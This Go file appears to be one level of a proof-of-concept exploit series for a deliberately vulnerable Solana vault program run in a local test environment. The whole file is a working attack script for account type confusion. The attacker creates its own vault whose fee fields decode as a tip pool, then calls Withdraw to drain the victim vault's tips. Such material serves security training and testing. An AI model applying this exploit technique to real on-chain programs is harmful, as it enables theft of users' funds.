package level3

import (
	"context"
	"crypto/ed25519"

	"github.com/pkg/errors"

	"github.com/code-payments/poc-ledger/pkg/ledger/localenv"
	"github.com/code-payments/poc-ledger/pkg/pocs"
	"github.com/code-payments/poc-ledger/pkg/solana"
)

const (
	Level       = 3
	Name        = "account type confusion"
	Description = "Withdraw decodes any program owned account as a tip pool, so the attacker creates a vault whose fee and fee recipient read as a pool with a huge value for the victim's vault."

	CreatorLamports   = 10_000_000_000
	ActorLamports     = 100_000_000_000
	CreatorFee        = 1000
	TipAmount         = 10_000
	AttackerFee       = 10000
	VictimSeedStart   = 1
	AttackerSeedStart = 11
)

// Actor keypair indexes.
const (
	AttackerIndex          = 1
	WithdrawAuthorityIndex = 2
	PoolIndex              = 3
	CreatorIndex           = 4
	TipperIndex            = 5
)

// Options configures an environment with the program deployed and the vault
// creator funded as the payer.
func Options() []localenv.Option {
	return []localenv.Option{
		localenv.WithPayer(solana.KeypairFromIndex(CreatorIndex), CreatorLamports),
		localenv.WithProgram(ProgramKey, New()),
	}
}

// Run sets up a vault with a tipped pool, then withdraws the tips by passing
// the attacker's own vault as the pool.
func Run(ctx context.Context, env *localenv.Environment) (*pocs.Report, error) {
	rec := pocs.NewRecorder(env, Level, Name, Description, ProgramKey)

	creator := env.Keypair(CreatorIndex)
	creatorKey := creator.Public().(ed25519.PublicKey)
	withdrawAuthority := env.Keypair(WithdrawAuthorityIndex)
	withdrawAuthorityKey := withdrawAuthority.Public().(ed25519.PublicKey)
	pool := env.Keypair(PoolIndex)
	poolKey := pool.Public().(ed25519.PublicKey)
	tipper := env.Keypair(TipperIndex)
	tipperKey := tipper.Public().(ed25519.PublicKey)
	attacker := env.Keypair(AttackerIndex)
	attackerKey := attacker.Public().(ed25519.PublicKey)

	seed, vault, err := FindVaultSeed(ProgramKey, VictimSeedStart)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "initialize vault", []solana.Instruction{
		Initialize(ProgramKey, vault, creatorKey, seed, CreatorFee, creatorKey),
	}, creator)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, withdrawAuthorityKey, ActorLamports); err != nil {
		return nil, err
	}
	if err := env.CreateAccountRentExempt(ctx, pool, TipPoolSize, ProgramKey); err != nil {
		return nil, errors.Wrap(err, "failed to create pool account")
	}

	err = rec.Execute(ctx, "create pool", []solana.Instruction{
		CreatePool(ProgramKey, vault, withdrawAuthorityKey, poolKey),
	}, withdrawAuthority)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, tipperKey, ActorLamports); err != nil {
		return nil, err
	}
	err = rec.Execute(ctx, "tip", []solana.Instruction{
		Tip(ProgramKey, vault, poolKey, tipperKey, TipAmount),
	}, tipper)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, attackerKey, ActorLamports); err != nil {
		return nil, err
	}

	attackerSeedStart := uint8(AttackerSeedStart)
	if seed >= attackerSeedStart {
		attackerSeedStart = seed + 1
	}
	attackerSeed, attackerVault, err := FindVaultSeed(ProgramKey, attackerSeedStart)
	if err != nil {
		return nil, err
	}

	// Read as a pool, the vault's creator is the withdraw authority, the fee
	// is the value and the fee recipient is the vault being drained
	err = rec.Execute(ctx, "initialize attacker vault", []solana.Instruction{
		Initialize(ProgramKey, attackerVault, attackerKey, attackerSeed, AttackerFee, vault),
	}, attacker)
	if err != nil {
		return nil, err
	}

	if err := rec.Track(ctx, "vault", vault, pocs.RoleVictim); err != nil {
		return nil, err
	}
	if err := rec.Track(ctx, "attacker", attackerKey, pocs.RoleAttacker); err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "withdraw", []solana.Instruction{
		Withdraw(ProgramKey, vault, attackerVault, attackerKey, TipAmount),
	}, attacker)
	if err != nil {
		return nil, err
	}

	return rec.Finish(ctx)
}
